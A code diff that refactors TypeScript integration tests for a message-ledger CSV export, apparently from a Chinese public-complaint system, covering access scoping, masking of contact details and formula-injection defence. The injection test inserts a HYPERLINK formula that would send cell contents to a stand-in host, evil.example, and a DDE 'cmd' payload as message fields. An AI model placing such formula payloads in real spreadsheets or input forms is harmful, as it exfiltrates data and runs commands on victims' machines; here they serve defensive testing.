@@ -13,27 +13,20 @@ const ASSIGN = `mutation($i: AssignMessageInput!) { assignMessage(input: $i) { m
 const LIST = `query($f: MessageFilter) { messages(filter: $f, first: 100) { totalCount nodes { serialNo } } }`;
 
 const { s, w } = worldPerFile({}, { timeout: 60_000 });
+/** createMessage by the dispatcher: the new message's id and serial number. */
+const createMessage = async (input: Record<string, unknown>): Promise<{ id: string; serialNo: string }> =>
+  (await ok(s.gql(CREATE, { i: input }, w.t.dispatcher))).createMessage.message;
 beforeAll(async () => {
   for (let i = 0; i < 12; i++) {
     const type = i % 3 === 0 ? 'COMPLAIN' : 'CONSULT';
-    const m = (
-      await ok(
-        s.gql(
-          CREATE,
-          {
-            i: {
-              channel: 'WEB',
-              type,
-              title: `台账导出测试${i}，含逗号,和"引号"`,
-              content: '导出测试的留言内容，足够长的内容。',
-              realName: '张三丰',
-              phone: `1380013${String(i).padStart(4, '0')}`,
-            },
-          },
-          w.t.dispatcher,
-        ),
-      )
-    ).createMessage.message;
+    const m = await createMessage({
+      channel: 'WEB',
+      type,
+      title: `台账导出测试${i}，含逗号,和"引号"`,
+      content: '导出测试的留言内容，足够长的内容。',
+      realName: '张三丰',
+      phone: `1380013${String(i).padStart(4, '0')}`,
+    });
     serials[m.id] = m.serialNo;
     if (i < 4) await ok(s.gql(ASSIGN, { i: { messageId: m.id, leadUnitId: w.unit['hn-cs-zjj'] } }, w.t.dispatcher));
   }
@@ -80,23 +73,13 @@ test("a unit handler's export holds only what it may see; bad filters and missin
 });
 
 test('the title in the ledger export is masked like the public views (every spelling of a phone, an e-mail, a plate)', async () => {
-  const m = (
-    await ok(
-      s.gql(
-        CREATE,
-        {
-          i: {
-            channel: 'WEB',
-            type: 'CONSULT',
-            title: '回电+86 139 1234 5670、0731-88886666、lisi@qq.com、湘A12345',
-            content: '标题里写了联系方式的留言。',
-            realName: '王五',
-          },
-        },
-        w.t.dispatcher,
-      ),
-    )
-  ).createMessage.message;
+  const m = await createMessage({
+    channel: 'WEB',
+    type: 'CONSULT',
+    title: '回电+86 139 1234 5670、0731-88886666、lisi@qq.com、湘A12345',
+    content: '标题里写了联系方式的留言。',
+    realName: '王五',
+  });
   const { records, bytes } = await download('?types=CONSULT', w.t.dispatcher);
   expect(records.find((r) => r.serialNo === m.serialNo)?.title).toBe('回电139****5670、073****6666、l***@qq.com、湘A*****');
   expect(bytes.toString('utf8')).not.toMatch(/1234 5670|88886666|lisi@|A12345/);
@@ -106,15 +89,14 @@ test('no cell of an export can run as a spreadsheet formula (= + - @, tab, carri
   const titles = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+SUM(1,2)', '-2+3', '@SUM(A1:A9)', ' =1+1'];
   const made: Record<string, string> = {};
   for (const title of titles) {
-    const m = (
-      await ok(
-        s.gql(
-          CREATE,
-          { i: { channel: 'LETTER', type: 'SUGGEST', title, content: '公式注入测试的留言内容。', realName: "=cmd|' /C calc'!A0", phone: '13800138000' } },
-          w.t.dispatcher,
-        ),
-      )
-    ).createMessage.message;
+    const m = await createMessage({
+      channel: 'LETTER',
+      type: 'SUGGEST',
+      title,
+      content: '公式注入测试的留言内容。',
+      realName: "=cmd|' /C calc'!A0",
+      phone: '13800138000',
+    });
     made[m.serialNo] = title.trim();
   }
   const { records, bytes } = await download('?channels=LETTER', w.t.dispatcher);
@@ -136,9 +118,7 @@ test('no cell of an export can run as a spreadsheet formula (= + - @, tab, carri
       ),
     )
   ).createUnit.unit;
-  const m = (
-    await ok(s.gql(CREATE, { i: { channel: 'WEB', type: 'COMPLAIN', title: '统计导出公式测试', content: '统计导出公式测试的留言内容。' } }, w.t.dispatcher))
-  ).createMessage.message;
+  const m = await createMessage({ channel: 'WEB', type: 'COMPLAIN', title: '统计导出公式测试', content: '统计导出公式测试的留言内容。' });
   await ok(s.gql(ASSIGN, { i: { messageId: m.id, leadUnitId: unit.id } }, w.t.dispatcher));
   const day = new Date(Date.now() + 8 * 3600_000).toISOString().slice(0, 10);
   const res = await fetch(`${s.url}/export/statistics.csv?from=${day}&to=${day}&groupBy=UNIT`, { headers: { authorization: `Bearer ${w.t.dispatcher}` } });
